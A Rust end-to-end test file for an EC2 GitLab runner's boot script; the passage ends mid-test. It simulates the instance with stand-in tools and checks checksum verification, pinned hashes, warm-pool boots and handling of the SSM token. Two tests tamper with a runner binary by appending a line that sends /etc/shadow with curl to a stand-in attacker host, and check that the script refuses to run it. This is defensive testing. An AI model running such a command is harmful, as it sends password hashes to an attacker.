//! The EC2 runner's user-data, run: the script the provision function renders (the real
//! `render_user_data` over the template compiled into the fleet function), under bash with
//! stand-ins for what an instance has around it (IMDSv2 and GitLab's download bucket through
//! `curl`, served from a fixture directory; `shutdown`, `logger`, `systemctl`, `dnf`,
//! `uname`), and the real AWS CLI against moto for the token parameter. It needs no root,
//! network or docker: the PATH holds only the stand-ins and a few named coreutils.
//! A warm-pool instance boots twice: its first boot (the rendered script) warms it up and
//! stops, its next one runs the copy that boot left in cloud-init's per-boot directory.

use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use aws_sdk_ssm::types::ParameterType;
use e2e_tests::{moto_endpoint, sdk_config, tools_venv};
use ephemeral_core::ec2::{RunnerRelease, UserDataValues, render_user_data};
use ephemeral_core::mapping::RunnerExecutor;

const VERSION: &str = "v18.5.0";
const BUCKET: &str = "https://gitlab-runner-downloads.s3.amazonaws.com";
const GITLAB_URL: &str = "https://gitlab.example.com";
const CACHE_BUCKET: &str = "ci-runners-cachebucket-1a2b3c";

/// No boot here takes this long: a boot that does is stopped and its test fails, not hangs.
const BOOT_LIMIT: Duration = Duration::from_secs(180);
/// A warm-up never waits for a token (60 AWS CLI calls against moto when it does, `sleep`
/// being a no-op here): it ends well within this.
const WARM_UP_LIMIT: Duration = Duration::from_secs(20);

/// What the instance's own tools are, for the script and the stand-ins: nothing else of the
/// host (no docker, no gitlab-runner, no systemctl) is on the PATH.
const HOST_TOOLS: [&str; 16] = [
    "awk",
    "basename",
    "cat",
    "chmod",
    "cp",
    "cut",
    "env",
    "grep",
    "head",
    "install",
    "mkdir",
    "mktemp",
    "rm",
    "sed",
    "seq",
    "sha256sum",
];

/// A gitlab-runner stand-in of `version`: answers `--version` like the real one and otherwise
/// records its argv (one per line, `$0` first) and its environment.
fn fake_runner(version: &str) -> String {
    format!(
        "#!/bin/bash\n\
         if [ \"$1\" = --version ]; then printf 'Version:      {}\\nGit revision: 0123abcd\\n'; exit 0; fi\n\
         printf '%s\\n' \"$0\" \"$@\" > \"$RUNNER_RECORD/argv\"\n\
         env > \"$RUNNER_RECORD/env\"\n",
        version.trim_start_matches('v')
    )
}

fn sha256_of(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout).unwrap()[..64].to_owned()
}

fn write_executable(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// One boot of one runner instance, in a temporary directory.
struct Boot {
    dir: PathBuf,
    instance_id: String,
    prefix: String,
    token: String,
    /// `uname -m`.
    machine: &'static str,
}

/// What the boot left behind.
struct Booted {
    success: bool,
    /// What the script wrote to `logger` (the instance's journal).
    log: String,
    /// Every stand-in's argv, in order.
    calls: String,
    /// The argv the runner was started with (`$0` first); `None`: it never ran.
    runner_argv: Option<Vec<String>>,
    runner_env: Option<String>,
}

impl Booted {
    fn downloads(&self) -> Vec<&str> {
        self.calls
            .lines()
            .filter(|l| l.starts_with("curl ") && l.contains(BUCKET))
            .map(|l| l.rsplit(' ').next().unwrap())
            .collect()
    }

    /// Every request to something else than IMDS (the download stand-in's requests).
    fn requests_beyond_imds(&self) -> Vec<&str> {
        self.calls
            .lines()
            .filter(|l| l.starts_with("curl ") && !l.contains("http://169.254.169.254/"))
            .collect()
    }

    fn package_installs(&self) -> Vec<&str> {
        self.calls
            .lines()
            .filter(|l| l.starts_with("dnf ") || l.starts_with("yum "))
            .collect()
    }

    fn refused(&self, why: &str) {
        assert!(!self.success, "{}", self.log);
        assert!(self.runner_argv.is_none(), "the runner ran:\n{}", self.log);
        assert!(
            self.log.contains(why),
            "no `{why}` in the log:\n{}",
            self.log
        );
        assert!(
            !self.calls.lines().any(|l| l.starts_with("aws ")),
            "an instance that refuses never reads its token:\n{}",
            self.calls
        );
        assert_eq!(
            self.calls.lines().last(),
            Some("shutdown -h now"),
            "{}",
            self.calls
        );
    }
}

impl Boot {
    /// An instance launched for a job: its token parameter is there from the start.
    async fn new(machine: &'static str) -> Self {
        let boot = Self::unclaimed(machine);
        boot.put_token().await;
        boot
    }

    /// A warm-pool instance, launched with no job: no token parameter until a provision
    /// claims it.
    fn unclaimed(machine: &'static str) -> Self {
        static N: AtomicU32 = AtomicU32::new(0);
        let n = N.fetch_add(1, Ordering::SeqCst);
        let pid = std::process::id();
        let dir = std::env::temp_dir().join(format!("user-data-moto-{pid}-{n}"));
        let _ = std::fs::remove_dir_all(&dir);
        for sub in [
            "bin",
            "fixtures",
            "install",
            "record",
            "tmp",
            "home",
            "packages/docker",
            "packages/awscli-2",
        ] {
            std::fs::create_dir_all(dir.join(sub)).unwrap();
        }
        let boot = Self {
            instance_id: format!("i-{pid:08x}{n:09x}"),
            prefix: format!("/ephemeral-runners/user-data-{pid}-{n}/runner-tokens"),
            token: format!("glrt-user-data-test-{pid}-{n}"),
            dir,
            machine,
        };
        boot.stand_ins();
        boot
    }

    /// What the provision step puts for the instance it launched or claimed.
    async fn put_token(&self) {
        sdk_ssm()
            .put_parameter()
            .name(self.parameter())
            .value(&self.token)
            .r#type(ParameterType::SecureString)
            .send()
            .await
            .unwrap();
    }

    fn parameter(&self) -> String {
        format!("{}/{}", self.prefix, self.instance_id)
    }

    fn bin(&self) -> PathBuf {
        self.dir.join("bin")
    }

    fn stand_ins(&self) {
        let bin = self.bin();
        for name in HOST_TOOLS {
            let real = ["/usr/bin", "/bin"]
                .iter()
                .map(|d| Path::new(d).join(name))
                .find(|p| p.exists())
                .unwrap_or_else(|| panic!("{name} not found in /usr/bin or /bin"));
            std::os::unix::fs::symlink(real, bin.join(name)).unwrap();
        }
        let record = r#"printf '%s\n' "$(basename "$0") $*" >> "$CALLS""#;
        let stub = |name: &str, body: &str| {
            write_executable(&bin.join(name), &format!("#!/bin/bash\n{record}\n{body}\n"));
        };
        // IMDSv2 (a session token, then the instance id with it) and the download bucket.
        stub(
            "curl",
            &format!(
                r#"out="" url="" session=""
while [ $# -gt 0 ]; do
  case "$1" in
    -o) out=$2; shift 2 ;;
    -H) case "$2" in "X-aws-ec2-metadata-token: "*) session=${{2#*: }} ;; esac; shift 2 ;;
    -X) shift 2 ;;
    -*) shift ;;
    *) url=$1; shift ;;
  esac
done
case "$url" in
  http://169.254.169.254/latest/api/token) echo imds-session ;;
  http://169.254.169.254/latest/meta-data/instance-id)
    [ "$session" = imds-session ] || exit 22
    echo "$INSTANCE_ID" ;;
  {BUCKET}/*)
    src="$FIXTURES/${{url#{BUCKET}/}}"
    [ -f "$src" ] || {{ echo "curl: (22) The requested URL returned error: 404" >&2; exit 22; }}
    cp "$src" "$out" ;;
  *) echo "curl: (6) Could not resolve host in $url" >&2; exit 6 ;;
esac"#
            ),
        );
        stub("logger", r#"cat >> "$LOG_FILE""#);
        stub("shutdown", "");
        stub("systemctl", "");
        // The package managers install what `packages/<name>/` holds onto the PATH.
        for manager in ["dnf", "yum"] {
            stub(
                manager,
                r#"shift 2; for p in "$@"; do [ -d "$PACKAGES/$p" ] && cp "$PACKAGES/$p"/* "$BIN_DIR/"; done
echo "Installed: $*""#,
            );
        }
        write_executable(
            &self.dir.join("packages/docker/docker"),
            &format!("#!/bin/bash\n{record}\n"),
        );
        stub("sleep", "");
        stub(
            "uname",
            r#"if [ "$1" = -m ]; then echo "$MACHINE"; else echo Linux; fi"#,
        );
        // The real AWS CLI, against moto through AWS_ENDPOINT_URL (honoured since botocore
        // 1.31 and AWS CLI v2.13), with the host's PATH and HOME to find it (a pyenv shim
        // needs both); the AWS_* variables keep it off the host's config and credentials.
        stub(
            "aws",
            r#"PATH="$HOST_PATH" HOME="$HOST_HOME" exec "$AWS_CLI" "$@""#,
        );
    }

    /// Publishes `version`'s fake binaries and a `release.sha256` of them, as GitLab does.
    fn publish(&self, version: &str) -> PathBuf {
        let release = self.dir.join("fixtures").join(version);
        std::fs::create_dir_all(release.join("binaries")).unwrap();
        let mut sums = String::new();
        for arch in ["386", "amd64", "arm", "arm64"] {
            let name = format!("binaries/gitlab-runner-linux-{arch}");
            std::fs::write(release.join(&name), fake_runner(version)).unwrap();
            sums.push_str(&format!("{}  {name}\n", sha256_of(&release.join(&name))));
        }
        std::fs::write(release.join("release.sha256"), sums).unwrap();
        release
    }

    /// The AMI has gitlab-runner `version` installed (on the PATH).
    /// The AMI is one RunnerAmiComponent (template.yaml) baked: gitlab-runner `version` in
    /// the install directory (/usr/local/bin on an instance), docker and the AWS CLI.
    fn bake(&self, version: &str) {
        write_executable(&self.installed(), &fake_runner(version));
        std::fs::copy(
            self.dir.join("packages/docker/docker"),
            self.bin().join("docker"),
        )
        .unwrap();
    }

    /// The AMI has no AWS CLI: only its distribution package does.
    fn without_aws_cli(&self) {
        std::fs::rename(
            self.bin().join("aws"),
            self.dir.join("packages/awscli-2/aws"),
        )
        .unwrap();
    }

    fn preinstall(&self, version: &str) {
        write_executable(&self.bin().join("gitlab-runner"), &fake_runner(version));
    }

    fn run(&self, runner: RunnerRelease) -> Booted {
        self.first_boot(runner, false)
    }

    /// The first boot: cloud-init runs the rendered user-data (`pooled`: of a warm-pool
    /// instance).
    fn first_boot(&self, runner: RunnerRelease, pooled: bool) -> Booted {
        let script = render_user_data(
            fleet::config::USER_DATA_TEMPLATE,
            &UserDataValues {
                gitlab_url: GITLAB_URL.into(),
                token_parameter_prefix: self.prefix.clone(),
                executor: RunnerExecutor::Docker,
                docker_image: ephemeral_core::ec2::DEFAULT_DOCKER_IMAGE.into(),
                privileged: false,
                wait_timeout_seconds: 600,
                region: "us-east-1".into(),
                runner,
                cache_bucket: Some(CACHE_BUCKET.into()),
                pooled,
            },
        )
        .unwrap();
        std::fs::write(self.user_data(), &script).unwrap();
        let mut bash = Command::new("/bin/bash");
        bash.arg(self.user_data());
        self.execute(bash, if pooled { WARM_UP_LIMIT } else { BOOT_LIMIT })
    }

    /// A later boot: cloud-init runs what its per-boot directory holds, as programs.
    fn next_boot(&self) -> Booted {
        self.execute(Command::new(self.per_boot_copy()), BOOT_LIMIT)
    }

    fn execute(&self, mut command: Command, limit: Duration) -> Booted {
        let d = |sub: &str| self.dir.join(sub);
        // A boot of its own: nothing of an earlier run of this Boot is read as this one's.
        for old in ["calls.log", "journal.log", "record/argv", "record/env"] {
            let _ = std::fs::remove_file(d(old));
        }
        command
            .env_clear()
            .env("PATH", self.bin())
            .env("HOME", d("home"))
            .env("TMPDIR", d("tmp"))
            .env("CALLS", d("calls.log"))
            .env("LOG_FILE", d("journal.log"))
            .env("FIXTURES", d("fixtures"))
            .env("RUNNER_INSTALL_DIR", d("install"))
            // A warm-pool instance's marker and per-boot copy, in this instance's own disk.
            .env("EPHEMERAL_STATE_DIR", d("state"))
            .env("CLOUD_PER_BOOT_DIR", d("per-boot"))
            .env("RUNNER_RECORD", d("record"))
            .env("PACKAGES", d("packages"))
            .env("BIN_DIR", self.bin())
            .env("INSTANCE_ID", &self.instance_id)
            .env("MACHINE", self.machine)
            .env("AWS_CLI", aws_cli())
            .env("HOST_PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOST_HOME", std::env::var_os("HOME").unwrap_or_default())
            .env("AWS_ENDPOINT_URL", moto_endpoint())
            .env("AWS_ACCESS_KEY_ID", "testing")
            .env("AWS_SECRET_ACCESS_KEY", "testing")
            .env("AWS_CONFIG_FILE", "/dev/null")
            .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .current_dir(&self.dir)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            // A group of its own: a boot past its limit is stopped whole, `logger` and an AWS
            // CLI call included.
            .process_group(0);
        let child = command.spawn().expect("bash");
        let group = child.id();
        let read = |sub: &str| std::fs::read_to_string(d(sub)).ok();
        // wait_with_output(): returns once every holder of the pipes is gone, `logger`
        // included.
        let (done, wait) = std::sync::mpsc::channel();
        std::thread::spawn(move || done.send(child.wait_with_output()));
        let out = match wait.recv_timeout(limit) {
            Ok(out) => out.expect("bash"),
            Err(_) => {
                let _ = Command::new("kill")
                    .args(["-KILL", "--", &format!("-{group}")])
                    .status();
                let _ = wait.recv();
                panic!(
                    "the boot did not end within {limit:?}:\n{}\n{}",
                    read("journal.log").unwrap_or_default(),
                    read("calls.log").unwrap_or_default()
                );
            }
        };
        Booted {
            success: out.status.success(),
            log: read("journal.log").unwrap_or_default()
                + &String::from_utf8_lossy(&out.stdout)
                + &String::from_utf8_lossy(&out.stderr),
            calls: read("calls.log").unwrap_or_default(),
            runner_argv: read("record/argv").map(|a| a.lines().map(str::to_owned).collect()),
            runner_env: read("record/env"),
        }
    }

    async fn token_parameter_exists(&self) -> bool {
        match sdk_ssm()
            .get_parameter()
            .name(self.parameter())
            .send()
            .await
        {
            Ok(_) => true,
            Err(e)
                if e.as_service_error()
                    .is_some_and(|e| e.is_parameter_not_found()) =>
            {
                false
            }
            Err(e) => panic!("get-parameter: {e:?}"),
        }
    }

    fn installed(&self) -> PathBuf {
        self.dir.join("install/gitlab-runner")
    }

    /// The rendered user-data, as cloud-init keeps it on the instance.
    fn user_data(&self) -> PathBuf {
        self.dir.join("user-data.sh")
    }

    /// What cloud-init runs at every boot after the first (/var/lib/cloud/scripts/per-boot).
    fn per_boot_copy(&self) -> PathBuf {
        self.dir.join("per-boot/ephemeral-runner.sh")
    }

    /// A warm-pool instance's "warmed up" mark (/var/lib/ephemeral-runner).
    fn warmed_marker(&self) -> PathBuf {
        self.dir.join("state/warmed")
    }

    /// The runner ran `run-single` as `program`, with the token in its environment only.
    fn assert_ran(&self, booted: &Booted, program: &Path) {
        let argv = booted
            .runner_argv
            .as_ref()
            .unwrap_or_else(|| panic!("the runner never ran:\n{}\n{}", booted.log, booted.calls));
        let expected = [
            program.to_str().unwrap(),
            "run-single",
            "--url",
            GITLAB_URL,
            "--executor",
            "docker",
            "--docker-image",
            "alpine:3",
            // The job cache: the stack's bucket, shared (a new runner per job), signed with
            // the instance role (ephemeral_core::cache).
            "--cache-type",
            "s3",
            "--cache-shared",
            "--cache-path",
            ephemeral_core::cache::PATH,
            "--cache-s3-bucket-name",
            CACHE_BUCKET,
            "--cache-s3-bucket-location",
            "us-east-1",
            "--cache-s3-authentication_type",
            "iam",
            "--max-builds",
            "1",
            "--wait-timeout",
            "600",
        ];
        assert_eq!(argv, &expected, "{}", booted.log);
        let env = booted.runner_env.as_deref().unwrap();
        assert!(
            env.lines()
                .any(|l| l == format!("CI_SERVER_TOKEN={}", self.token)),
            "{env}"
        );
        for (what, text) in [
            ("the runner's argv", argv.join(" ")),
            ("a command line", booted.calls.clone()),
            ("the log", booted.log.clone()),
        ] {
            assert!(
                !text.contains(&self.token),
                "the token is in {what}:\n{text}"
            );
        }
        assert!(booted.success, "{}", booted.log);
        assert_eq!(
            booted.calls.lines().last(),
            Some("shutdown -h now"),
            "{}",
            booted.calls
        );
    }
}

impl Drop for Boot {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            let _ = std::fs::remove_dir_all(&self.dir);
        }
    }
}

/// The AWS CLI: the tools venv's if it has one, else the host's `aws`.
fn aws_cli() -> PathBuf {
    let venv = tools_venv().join("bin/aws");
    let cli = if venv.exists() {
        venv
    } else {
        PathBuf::from("aws")
    };
    let works = Command::new(&cli)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        works,
        "this test runs the user-data with the real AWS CLI: install it (pip install awscli, or AWS CLI v2) on the PATH"
    );
    cli
}

fn sdk_ssm() -> aws_sdk_ssm::Client {
    aws_sdk_ssm::Client::new(&sdk_config())
}

fn release(pins: &str) -> RunnerRelease {
    RunnerRelease::new(VERSION, pins).unwrap()
}

#[tokio::test]
async fn a_verified_runner_reads_and_deletes_its_token_and_gets_it_only_in_its_environment() {
    let boot = Boot::new("x86_64").await;
    boot.publish(VERSION);
    let booted = boot.run(release(""));

    boot.assert_ran(&booted, &boot.installed());
    assert!(
        !boot.token_parameter_exists().await,
        "the token parameter is deleted once read"
    );
    let aws: Vec<_> = booted
        .calls
        .lines()
        .filter(|l| l.starts_with("aws "))
        .collect();
    assert_eq!(aws.len(), 2, "{aws:?}");
    assert!(
        aws[0].starts_with("aws ssm get-parameter --region us-east-1 --name "),
        "{aws:?}"
    );
    assert!(aws[1].starts_with("aws ssm delete-parameter"), "{aws:?}");
    // Not a warm-pool instance: nothing of it runs at a later boot (it is terminated anyway).
    assert!(!boot.per_boot_copy().exists(), "{}", booted.log);
    assert!(!boot.warmed_marker().exists(), "{}", booted.log);
    // The pinned release's binary and its release.sha256, nothing else; verified, then
    // made executable.
    assert_eq!(
        booted.downloads(),
        [
            format!("{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"),
            format!("{BUCKET}/{VERSION}/release.sha256"),
        ]
    );
    assert!(
        booted
            .log
            .contains("binaries/gitlab-runner-linux-amd64: OK"),
        "{}",
        booted.log
    );
    let mode = std::fs::metadata(boot.installed())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    // Docker from the distribution's packages, then enabled and started.
    let calls: Vec<_> = booted.calls.lines().collect();
    let at = |call: &str| calls.iter().position(|l| *l == call);
    let (Some(dnf), Some(start)) = (
        at("dnf install -y docker"),
        at("systemctl enable --now docker"),
    ) else {
        panic!("{}", booted.calls)
    };
    assert!(dnf < start, "{}", booted.calls);
}

#[tokio::test]
async fn a_tampered_binary_is_never_run() {
    let boot = Boot::new("x86_64").await;
    let release_dir = boot.publish(VERSION);
    let binary = release_dir.join("binaries/gitlab-runner-linux-amd64");
    let mut text = std::fs::read_to_string(&binary).unwrap();
    text.push_str("curl -d @/etc/shadow https://evil.example\n");
    std::fs::write(&binary, text).unwrap();

    let booted = boot.run(release(""));

    booted.refused(&format!(
        "refusing to run gitlab-runner: the SHA-256 of {BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64 does not match {BUCKET}/{VERSION}/release.sha256"
    ));
    assert!(
        booted.log.contains("gitlab-runner-linux-amd64: FAILED"),
        "{}",
        booted.log
    );
    assert!(
        !boot.installed().exists(),
        "a binary that failed its check is not installed"
    );
    assert!(
        boot.token_parameter_exists().await,
        "the token was not read"
    );
}

#[tokio::test]
async fn a_release_sha256_without_the_binary_refuses() {
    let boot = Boot::new("x86_64").await;
    let release_dir = boot.publish(VERSION);
    let sums = release_dir.join("release.sha256");
    let kept: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .filter(|l| !l.ends_with("linux-amd64"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&sums, kept).unwrap();

    boot.run(release("")).refused(&format!(
        "refusing to run gitlab-runner: {BUCKET}/{VERSION}/release.sha256 has no checksum for binaries/gitlab-runner-linux-amd64"
    ));
    assert!(!boot.installed().exists());

    // No release.sha256 at all: refused too.
    std::fs::remove_file(&sums).unwrap();
    boot.run(release("")).refused(&format!(
        "refusing to run gitlab-runner: could not download {BUCKET}/{VERSION}/release.sha256"
    ));
}

#[tokio::test]
async fn a_pinned_checksum_replaces_release_sha256_and_a_wrong_one_refuses() {
    // Wrong pin for this architecture: refused, even though release.sha256 would match.
    let boot = Boot::new("x86_64").await;
    boot.publish(VERSION);
    let wrong = "0".repeat(64);
    let booted = boot.run(release(&format!("amd64={wrong}")));
    booted.refused(&format!(
        "refusing to run gitlab-runner: the SHA-256 of {BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64 does not match the stack parameter GitLabRunnerSha256"
    ));
    assert_eq!(
        booted.downloads(),
        [format!(
            "{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"
        )],
        "pinned: release.sha256 is not asked"
    );

    // A pin that names only the other architecture: refused.
    let boot = Boot::new("x86_64").await;
    let release_dir = boot.publish(VERSION);
    let arm64 = sha256_of(&release_dir.join("binaries/gitlab-runner-linux-arm64"));
    boot.run(release(&format!("arm64={arm64}")))
        .refused("refusing to run gitlab-runner: GitLabRunnerSha256 pins no checksum for amd64");

    // The right pin on an arm64 instance: its own binary, checked against the pin only.
    let boot = Boot::new("aarch64").await;
    let release_dir = boot.publish(VERSION);
    std::fs::remove_file(release_dir.join("release.sha256")).unwrap();
    let arm64 = sha256_of(&release_dir.join("binaries/gitlab-runner-linux-arm64"));
    let booted = boot.run(release(&format!("arm64={arm64},amd64={wrong}")));
    boot.assert_ran(&booted, &boot.installed());
    assert_eq!(
        booted.downloads(),
        [format!(
            "{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-arm64"
        )]
    );
    assert!(
        booted
            .log
            .contains("SHA-256 checked against the stack parameter GitLabRunnerSha256"),
        "{}",
        booted.log
    );
    assert!(!boot.token_parameter_exists().await);
}

#[tokio::test]
async fn an_ami_with_the_pinned_version_downloads_nothing_and_another_version_is_replaced() {
    let boot = Boot::new("x86_64").await;
    boot.preinstall(VERSION);
    let booted = boot.run(release(""));
    boot.assert_ran(&booted, &boot.bin().join("gitlab-runner"));
    assert_eq!(booted.downloads(), Vec::<&str>::new(), "{}", booted.calls);
    assert!(
        booted
            .log
            .contains(&format!("gitlab-runner {VERSION} is installed")),
        "{}",
        booted.log
    );
    assert!(!boot.token_parameter_exists().await);

    let boot = Boot::new("x86_64").await;
    boot.preinstall("v17.11.3");
    boot.publish(VERSION);
    let booted = boot.run(release(""));
    boot.assert_ran(&booted, &boot.installed());
    assert!(
        booted.log.contains(&format!(
            "replacing gitlab-runner 17.11.3 ({}) with {VERSION}",
            boot.bin().join("gitlab-runner").display()
        )),
        "{}",
        booted.log
    );
    assert_eq!(booted.downloads().len(), 2, "{}", booted.calls);
}

#[tokio::test]
async fn a_baked_ami_downloads_and_installs_nothing_and_still_runs_its_job() {
    let boot = Boot::new("x86_64").await;
    boot.bake(VERSION);
    let booted = boot.run(release(""));

    boot.assert_ran(&booted, &boot.installed());
    assert_eq!(
        booted.requests_beyond_imds(),
        Vec::<&str>::new(),
        "{}",
        booted.calls
    );
    assert_eq!(
        booted.package_installs(),
        Vec::<&str>::new(),
        "{}",
        booted.calls
    );
    assert!(
        booted.log.contains(&format!(
            "gitlab-runner {VERSION} is installed: {}",
            boot.installed().display()
        )),
        "{}",
        booted.log
    );
    // The token: read, deleted, only in the runner's environment (assert_ran); docker runs.
    assert!(!boot.token_parameter_exists().await);
    let aws: Vec<_> = booted
        .calls
        .lines()
        .filter(|l| l.starts_with("aws "))
        .collect();
    assert_eq!(aws.len(), 2, "{aws:?}");
    assert!(
        booted
            .calls
            .lines()
            .any(|l| l == "systemctl enable --now docker"),
        "{}",
        booted.calls
    );

    // Pinned, and the baked binary is the pinned one: still nothing downloaded.
    let boot = Boot::new("x86_64").await;
    boot.bake(VERSION);
    let pin = sha256_of(&boot.installed());
    let booted = boot.run(release(&format!("amd64={pin}")));
    boot.assert_ran(&booted, &boot.installed());
    assert_eq!(
        booted.requests_beyond_imds(),
        Vec::<&str>::new(),
        "{}",
        booted.calls
    );
    assert_eq!(booted.package_installs(), Vec::<&str>::new());
}

#[tokio::test]
async fn a_baked_runner_that_is_not_the_pinned_one_is_replaced_by_the_verified_download() {
    // Another version baked (the AMI predates a GitLabRunnerVersion update): the pinned one
    // is downloaded, checked and installed over it; docker is still not reinstalled.
    let boot = Boot::new("x86_64").await;
    boot.bake("v17.11.3");
    boot.publish(VERSION);
    let booted = boot.run(release(""));
    boot.assert_ran(&booted, &boot.installed());
    assert!(
        booted.log.contains(&format!(
            "replacing gitlab-runner 17.11.3 ({}) with {VERSION}",
            boot.installed().display()
        )),
        "{}",
        booted.log
    );
    assert_eq!(
        booted.downloads(),
        [
            format!("{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"),
            format!("{BUCKET}/{VERSION}/release.sha256"),
        ]
    );
    assert!(
        std::fs::read_to_string(boot.installed())
            .unwrap()
            .contains("18.5.0"),
        "the pinned version replaced the baked one"
    );
    assert_eq!(booted.package_installs(), Vec::<&str>::new());
    assert!(!boot.token_parameter_exists().await);

    // The pinned version, but not the pinned binary (GitLabRunnerSha256): replaced by the
    // download, which is checked against the pin.
    let boot = Boot::new("x86_64").await;
    boot.bake(VERSION);
    std::fs::write(
        boot.installed(),
        fake_runner(VERSION) + "# not the binary GitLab published\n",
    )
    .unwrap();
    let release_dir = boot.publish(VERSION);
    let pin = sha256_of(&release_dir.join("binaries/gitlab-runner-linux-amd64"));
    let booted = boot.run(release(&format!("amd64={pin}")));
    boot.assert_ran(&booted, &boot.installed());
    assert!(
        booted.log.contains(&format!(
            "replacing gitlab-runner 18.5.0 ({}): not the binary GitLabRunnerSha256 pins for amd64",
            boot.installed().display()
        )),
        "{}",
        booted.log
    );
    assert_eq!(
        booted.downloads(),
        [format!(
            "{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"
        )]
    );
    assert_eq!(sha256_of(&boot.installed()), pin);
}

#[tokio::test]
async fn an_image_without_the_aws_cli_gets_it_from_the_distribution() {
    let boot = Boot::new("aarch64").await;
    boot.bake(VERSION);
    boot.without_aws_cli();
    let booted = boot.run(release(""));
    boot.assert_ran(&booted, &boot.installed());
    assert_eq!(booted.package_installs(), ["dnf install -y awscli-2"]);
    assert!(!boot.token_parameter_exists().await);
}

/// A warm-pool instance: its first boot (no job, no token parameter yet) installs and
/// verifies everything, leaves itself in cloud-init's per-boot directory and stops; its next
/// boot, once a provision claimed it, started it and put its token, runs the job with
/// nothing left to install.
#[tokio::test]
async fn a_pooled_instance_warms_up_and_stops_then_runs_its_job_at_the_next_boot() {
    let boot = Boot::unclaimed("x86_64");
    boot.publish(VERSION);
    boot.without_aws_cli();

    let warm = boot.first_boot(release(""), true);
    assert!(warm.success, "{}", warm.log);
    assert!(
        warm.log.contains(
            "warmed for the warm pool: stopping until a provision starts this instance for a job"
        ),
        "{}",
        warm.log
    );
    // The verified runner, docker and the AWS CLI: all there before the pool has it.
    assert_eq!(
        warm.downloads(),
        [
            format!("{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"),
            format!("{BUCKET}/{VERSION}/release.sha256"),
        ]
    );
    assert!(
        warm.log.contains("binaries/gitlab-runner-linux-amd64: OK"),
        "{}",
        warm.log
    );
    assert!(boot.installed().exists());
    assert_eq!(
        warm.package_installs(),
        ["dnf install -y docker", "dnf install -y awscli-2"]
    );
    // No token is its to read: no AWS CLI call, not even the instance id, no wait, no job.
    assert!(
        !warm.calls.lines().any(|l| l.starts_with("aws ")),
        "{}",
        warm.calls
    );
    assert!(
        !warm.calls.contains("http://169.254.169.254/"),
        "{}",
        warm.calls
    );
    assert!(
        !warm.calls.lines().any(|l| l.starts_with("sleep ")),
        "{}",
        warm.calls
    );
    assert!(warm.runner_argv.is_none(), "{}", warm.log);
    assert!(!boot.token_parameter_exists().await);
    // Stopped (shutdown behaviour stop), and run again by cloud-init at the next boot: the
    // script itself, for root only.
    assert_eq!(
        warm.calls.lines().last(),
        Some("shutdown -h now"),
        "{}",
        warm.calls
    );
    assert_eq!(
        std::fs::read_to_string(boot.per_boot_copy()).ok(),
        std::fs::read_to_string(boot.user_data()).ok(),
        "{}",
        warm.log
    );
    let mode = std::fs::metadata(boot.per_boot_copy())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o700);
    assert!(boot.warmed_marker().exists());

    // A provision claims it, starts it (StartInstances) and puts its token parameter.
    boot.put_token().await;
    let job = boot.next_boot();
    boot.assert_ran(&job, &boot.installed());
    assert!(
        !boot.token_parameter_exists().await,
        "the token parameter is deleted once read"
    );
    let aws: Vec<_> = job
        .calls
        .lines()
        .filter(|l| l.starts_with("aws "))
        .collect();
    assert_eq!(aws.len(), 2, "{aws:?}");
    assert!(
        aws[0].starts_with(&format!(
            "aws ssm get-parameter --region us-east-1 --name {}",
            boot.parameter()
        )),
        "{aws:?}"
    );
    assert!(aws[1].starts_with("aws ssm delete-parameter"), "{aws:?}");
    // Warmed up: nothing downloaded or installed this time.
    assert_eq!(
        job.requests_beyond_imds(),
        Vec::<&str>::new(),
        "{}",
        job.calls
    );
    assert_eq!(job.package_installs(), Vec::<&str>::new(), "{}", job.calls);
    assert!(
        job.log.contains(&format!(
            "gitlab-runner {VERSION} is installed: {}",
            boot.installed().display()
        )),
        "{}",
        job.log
    );
    assert!(!job.log.contains("warmed for the warm pool"), "{}", job.log);
}

/// A warm-up that refuses (here: a tampered binary) stops the instance unmarked and with no
/// per-boot copy: no later boot of it reads a token or runs a job.
#[tokio::test]
async fn a_pooled_instance_that_fails_its_warm_up_stays_up_unclaimable_and_never_reads_a_token() {
    let boot = Boot::unclaimed("x86_64");
    let release_dir = boot.publish(VERSION);
    let binary = release_dir.join("binaries/gitlab-runner-linux-amd64");
    let mut text = std::fs::read_to_string(&binary).unwrap();
    text.push_str("curl -d @/etc/shadow https://evil.example\n");
    std::fs::write(&binary, text).unwrap();

    let booted = boot.first_boot(release(""), true);
    assert!(
        !booted.success && booted.runner_argv.is_none(),
        "{}",
        booted.log
    );
    assert!(
        booted.log.contains(&format!(
            "refusing to run gitlab-runner: the SHA-256 of {BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64 does not match {BUCKET}/{VERSION}/release.sha256"
        )),
        "{}",
        booted.log
    );
    assert!(
        !booted.calls.lines().any(|l| l.starts_with("aws ")),
        "{}",
        booted.calls
    );
    // Not stopped: a stopped pooled instance looks ready to be started for a job. Running
    // and unmarked, it is never claimed, and the reaper ends it.
    assert!(!booted.calls.contains("shutdown"), "{}", booted.calls);
    assert!(
        booted.log.contains("warm-up failed (exit 1): staying up"),
        "{}",
        booted.log
    );
